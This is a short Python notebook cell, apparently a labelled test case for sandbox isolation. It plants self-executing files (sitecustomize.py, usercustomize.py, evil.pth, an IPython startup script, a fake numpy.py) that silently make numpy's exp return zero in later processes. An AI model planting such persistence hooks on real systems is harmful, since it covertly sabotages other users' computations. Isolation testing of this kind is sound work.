# D01 · Leaves files behind that the next student's process would run when it starts.
# bounded: it writes below its own home and folder only, whatever it is let

# %% [first] trick
import os, site
text = "import numpy as np\nnp.exp = lambda x: x * 0\n"
home = os.path.expanduser("~")
for folder in (home + "/.ipython/profile_default/startup", home + "/.config/matplotlib", ".",
               home, "/sandbox/agent", "/sandbox/site", "/sandbox/fonts"):
    for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth",
                 "ipython_config.py", "matplotlibrc", ".pythonrc", "__init__.py", "warm.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write(text)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.path.abspath("00-first.py")
